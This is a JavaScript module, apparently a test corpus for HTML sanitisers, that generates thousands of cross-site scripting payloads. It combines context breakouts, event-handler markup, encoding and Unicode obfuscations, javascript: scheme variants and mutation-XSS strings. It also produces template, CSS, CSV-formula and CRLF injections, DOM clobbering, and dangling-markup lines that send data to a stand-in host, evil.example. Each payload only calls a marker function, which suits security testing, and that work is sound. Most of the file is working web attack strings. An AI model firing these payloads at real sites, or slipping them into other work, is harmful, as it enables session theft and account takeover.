// Texts that run as a script where a page is not careful: contexts × techniques × spellings.
//
// Each calls `ran(n)` with its own number, so that one that runs says which it was.

const HOST = "//evil.example";

/** What ends the place that a text stands in, so that what follows is read as markup. */
const contexts = {
  "in text": "",
  "in an attribute": '">',
  "in a quoted attribute": "'>",
  "in a title": "</title>",
  "in a textarea": "</textarea>",
  "in a style": "</style>",
  "in a script": "</script>",
  "in a comment": "-->",
  "in an odd comment": "--!>",
  "in a choice": "</option></select>",
  "in a drawing's title": "</title></svg>",
  "in a noscript": "</noscript>",
  "in character data": "]]>",
  "in a template": "</template>",
  "in an address": '#" >',
};

/** Markup that runs `js`. */
const markup = {
  "script": (js) => `<script>${js}</script>`,
  "script from an address": (js) => `<script src=data:,${js}></script>`,
  "script of a drawing": (js) => `<svg><script>${js}</script></svg>`,
  "script with an href": (js) => `<svg><script href=data:,${js} /></svg>`,
  "module": (js) => `<script type=module>${js}</script>`,
  "broken image": (js) => `<img src=x: onerror=${js}>`,
  "broken image's set": (js) => `<img srcset=x: onerror=${js}>`,
  "drawing that loads": (js) => `<svg onload=${js}>`,
  "drawing that moves": (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  "drawing that is set": (js) => `<svg><set onbegin=${js} attributeName=x>`,
  "drawing's link": (js) => `<svg><a href=javascript:${js}><text y=9>x</text></a></svg>`,
  "drawing's foreign part": (js) => `<svg><foreignObject><img src=x: onerror=${js}>`,
  "drawing in a drawing": (js) => `<svg><image href=x: onerror=${js}>`,
  "formula's link": (js) => `<math href=javascript:${js}>x</math>`,
  "frame's own page": (js) => `<iframe srcdoc='<script>parent.${js}</script>'></iframe>`,
  "frame's address": (js) => `<iframe src=javascript:parent.${js}></iframe>`,
  "frame that loads": (js) => `<iframe onload=${js}></iframe>`,
  "object": (js) => `<object data=x: onerror=${js}></object>`,
  "embedded": (js) => `<embed src=javascript:${js}>`,
  "details that open": (js) => `<details open ontoggle=${js}>`,
  "field that is focused": (js) => `<input autofocus onfocus=${js}>`,
  "field of a picture": (js) => `<input type=image src=x: onerror=${js}>`,
  "choice that is focused": (js) => `<select autofocus onfocus=${js}></select>`,
  "text that is focused": (js) => `<p contenteditable autofocus tabindex=0 onfocus=${js}>x`,
  "film without a source": (js) => `<video><source onerror=${js}></video>`,
  "sound without a source": (js) => `<audio src=x: onerror=${js}></audio>`,
  "body": (js) => `<body onload=${js}>`,
  "body that scrolls": (js) => `<body onpageshow=${js}>`,
  "running text": (js) => `<marquee onstart=${js}>x</marquee>`,
  "animated text": (js) =>
    `<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=${js}>x`,
  "link": (js) => `<a href=javascript:${js}>x</a>`,
  "form": (js) => `<form action=javascript:${js}><button>x</button></form>`,
  "button of a form": (js) => `<form><button formaction=javascript:${js}>x</button></form>`,
  "style sheet": () => `<link rel=stylesheet href=${HOST}/a.css>`,
  "style sheet that loads": (js) => `<link rel=stylesheet href=data:text/css, onload=${js}>`,
  "style that loads": (js) => `<style onload=${js}></style>`,
  "style that imports": () => `<style>@import '${HOST}/a.css';</style>`,
  "other base": () => `<base href=${HOST}/>`,
  "way elsewhere": () => `<meta http-equiv=refresh content=0;url=${HOST}>`,
  "shadow": (js) => `<p><template shadowrootmode=open><img src=x: onerror=${js}></template>`,
};

/** Other ways to write the same markup. */
const spellings = {
  "upper case": (text) => text.replace(/<\/?[a-z]+|\bon[a-z]+/g, (word) => word.toUpperCase()),
  "mixed case": (text) => text.replace(/<\/?[a-z]+|\bon[a-z]+/g, (word) =>
    [...word].map((sign, place) => (place % 2 ? sign.toUpperCase() : sign)).join("")),
  "slashes": (text) => text.replaceAll(" ", "/"),
  "lines": (text) => text.replaceAll(" ", "\n"),
  "tabs": (text) => text.replaceAll(" ", "\t"),
  "form feeds": (text) => text.replaceAll(" ", "\f"),
  "no end": (text) => text.replace(/>$/, "//"),
  "twice begun": (text) => `<${text}`,
  "once inside itself": (text) => text.replace(/^<(\w)(\w+)/, "<$1<$1$2>$2"),
  "entities": (text) => text.replace(/[<>"'&=]/g, (sign) => `&#${sign.codePointAt(0)};`),
  "entities with zeros": (text) =>
    text.replace(/[<>"'&=]/g, (sign) => `&#x000${sign.codePointAt(0).toString(16)};`),
  "entities without an end": (text) => text.replace(/[<>]/g, (sign) => `&#${sign.charCodeAt(0)}`),
  "named entities": (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  "entities twice": (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  "percent": (text) => encodeURIComponent(text),
  "percent twice": (text) => encodeURIComponent(encodeURIComponent(text)),
  "script's escapes": (text) => text.replace(/[<>]/g, (sign) => `\\u00${code(sign)}`),
  "script's short escapes": (text) => text.replace(/[<>"']/g, (sign) => `\\x${code(sign)}`),
  "style's escapes": (text) => text.replace(/[<>]/g, (sign) => `\\${code(sign)} `),
  "wide signs": (text) =>
    text.replace(/[<>="'/]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
  "signs that lose their high bits": (text) =>
    text.replace(/[<>"']/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0x100)),
  "seven bits": (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  "from right to left": (text) => `\u202e${text}\u202c`,
  "out of an isolate": (text) => `\u2069${text}\u2067`,
  "nothing between": (text) => text.replace(/^<(\w)/, "<$1\u200b"),
  "mark at the front": (text) => `\ufeff${text}`,
  "combined": (text) => text.replaceAll(">", ">\u0338"),
  "line separators": (text) => text.replaceAll(" ", "\u2028"),
};

const code = (sign) => sign.charCodeAt(0).toString(16);
const spelt = ["script", "broken image", "drawing that loads", "frame's own page", "link",
  "details that open", "field that is focused", "object"];

/** What stays in its tag and adds to it. */
const attributes = {
  "click": (js) => `onclick=${js}`,
  "focus": (js) => `autofocus tabindex=1 onfocus=${js}`,
  "pointer": (js) => `onpointerover=${js} style=position:fixed;inset:0`,
  "animation": (js) => `style=animation:k onanimationend=${js}`,
  "own name": () => "id=main name=body",
  "other address": (js) => `href=javascript:${js} src=javascript:${js}`,
  "other form": () => `form=x formaction=${HOST} formmethod=get`,
  "toggle": (js) => `popover onbeforetoggle=${js}`,
  "visible": (js) => `oncontentvisibilityautostatechange=${js} style=content-visibility:auto`,
  "our own hooks": () => `data-live=${HOST} data-swap data-copy=code`,
};
const quotes = { "double": '"', "single": "'", "no": "", "back": "`" };

/** Ways to write `javascript:`; browsers drop tabs, lines and what stands before. */
const schemes = ["javascript:", "JaVaScRiPt:", "JAVASCRIPT:", "java\tscript:", "java\nscript:",
  "\tjavascript:", "\u0001javascript:", " javascript:", "javascript :", "javascript&colon;",
  "javascript&#58;", "javascript&#x3A;", "&#106;avascript:", "&#x6A;&#x61;vascript:",
  "java&Tab;script:", "java&NewLine;script:", "javascript&#0000058", "jav&#x09;ascript:",
  "%6aavascript:", "javascript%3A", "\\u006aavascript:", "javascript://%0a",
  "javascript:/*--></title>*/", "javascript:void 0;", "javascript:'';", "vbscript:",
  "data:text/html,<script>", "data:text/html;charset=utf-7,", "data:image/svg+xml,<svg onload=",
  "view-source:javascript:", "feed:javascript:", "livescript:", "blob:", "filesystem:",
  "jar:javascript:", "ja\u200bvascript:", "ｊavascript:", "javascript\uff1a", "//evil.example/",
  "/\\evil.example/", "\\\\evil.example\\", "https:evil.example", "https:///evil.example"];

/** What is harmless until it is read and written once more. */
const twiceRead = [
  (js) => `<noscript><p title="</noscript><img src=x: onerror=${js}>">`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><p title="--><img src=x: onerror=${js}>">`,
  (js) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}>`,
  (js) => `<table><a href="><img src=x: onerror=${js}>">`,
  (js) => `<select><template><style><!--</style><a rel="--></style><img src=x: onerror=${js}>">`,
  (js) => `<textarea><p title="</textarea><img src=x: onerror=${js}>">`,
  (js) => `<title><p id="</title><img src=x: onerror=${js}>">`,
  (js) => `<xmp><p id="</xmp><img src=x: onerror=${js}>">`,
  (js) => `<noembed><p id="</noembed><img src=x: onerror=${js}>">`,
  (js) => `<plaintext><img src=x: onerror=${js}>`,
  (js) => `<listing>&lt;img src=x: onerror=${js}&gt;</listing>`,
  (js) => `<p id="&quot;><img src=x: onerror=${js}>">`,
  (js) => `<p id=\`\` onmouseover=${js}>`,
  (js) => `<svg><title><![CDATA[</title><img src=x: onerror=${js}>]]>`,
  (js) => `<svg><desc><style>&lt;/style>&lt;img src=x: onerror=${js}></style>`,
  (js) => `<!--><img src=x: onerror=${js}>-->`,
  (js) => `<!--!> <img src=x: onerror=${js}> -->`,
  (js) => `<?xml version="1.0"?><img src=x: onerror=${js}>`,
  (js) => `<!DOCTYPE p [<!ENTITY x "${js}">]><img src=x: onerror=&x;>`,
  (js) => `<!--[if gte IE 4]><img src=x: onerror=${js}><![endif]-->`,
  (js) => `</p/><img src=x: onerror=${js}>`,
  (js) => `<%00 <img src=x: onerror=${js}>`,
  (js) => `&lt;img src=x: onerror=${js}>`,
];

/** What ends a text in a script, in JSON, in a template or in a style. */
const inside = [
  (js) => `';${js}//`,
  (js) => `";${js}//`,
  (js) => `\\';${js}//`,
  (js) => `\\";${js}//`,
  (js) => `\`;${js}//`,
  (js) => `*/${js}/*`,
  (js) => `\u2028${js}\u2029`,
  (js) => `\n${js}\n`,
  (js) => `"+${js}+"`,
  (js) => `'-${js}-'`,
  (js) => `</script><script>${js}//`,
  (js) => `<!--<script>${js}//`,
  (js) => `"}],"x":"</script><script>${js}</script>`,
  (js) => `\\u0022;${js}//`,
  (js) => `"__proto__":{"x":"${js}"}`,
  (js) => `\${${js}}`,
  (js) => `{{${js}}}`,
  (js) => `{{{${js}}}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{%${js}%}`,
  (js) => `<%=${js}%>`,
  (js) => `#{${js}}`,
  (js) => `[[${js}]]`,
  (js) => `{shop}${js}{n}{reward}`,
  (js) => `}*{background:url(javascript:${js})}`,
  (js) => `}p{width:expression(${js})}`,
  (js) => `;behavior:url(javascript:${js});`,
  () => `}@import url(${HOST}/a.css);{`,
  () => `red;background:url(${HOST}/a.png)`,
  () => `}[value^=a]{background:url(${HOST}/a)}`,
  (js) => `=cmd|'/c ${js}'!A1`,
  (js) => `%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>${js}</script>`,
];

/** Elements that our own script would take for its own. */
const impostors = [
  () => `<a id=main>x</a><form id=said><input name=textContent></form>`,
  () => `<p id=live-card data-live=${HOST}>x</p>`,
  () => `<form data-swap method=post action=${HOST}><button>x</button></form>`,
  () => `<button data-copy=code data-done=x>x</button><p id=code data-code=x>`,
  () => `<p data-scripted hidden onclick=x>`,
  () => `<img name=body><img name=head><img name=forms>`,
  () => `<form name=document><input name=body><input name=location></form>`,
  () => `<a id=location href=${HOST}><a id=location name=origin href=${HOST}>`,
  () => `<img src='${HOST}/?`,
  () => `<form action=${HOST}><textarea name=x>`,
  () => `<a target='x' href='${HOST}/?`,
  () => `<link rel=manifest href=${HOST}><link rel=preload as=image href=${HOST}/a.png>`,
];

function* all() {
  for (const [where, out] of Object.entries(contexts)) {
    for (const [how, write] of Object.entries(markup)) {
      yield [`${where}: ${how}`, (js) => out + write(js)];
    }
  }
  for (const [how, spell] of Object.entries(spellings)) {
    for (const what of spelt) yield [`${what}, ${how}`, (js) => spell(markup[what](js))];
  }
  for (const [kind, quote] of Object.entries(quotes)) {
    for (const [how, write] of Object.entries(attributes)) {
      yield [`${kind} quotes: ${how}`, (js) => `${quote} ${write(js)} x=${quote}`];
    }
  }
  for (const scheme of schemes) {
    yield [`address ${JSON.stringify(scheme)}`, (js) => `${scheme}${js}`];
    yield [`link ${JSON.stringify(scheme)}`, (js) => `<a href="${scheme}${js}">x</a>`];
  }
  for (const [name, list] of Object.entries({ "twice read": twiceRead, inside, impostors })) {
    yield* list.map((write, place) => [`${name} ${place + 1}`, write]);
  }
}

/** Every payload: its name, and its text, no two of which are the same. */
export const payloads = [...all()].map(([name, write], number) => ({
  name,
  number,
  text: write(`ran(${number})`),
}));
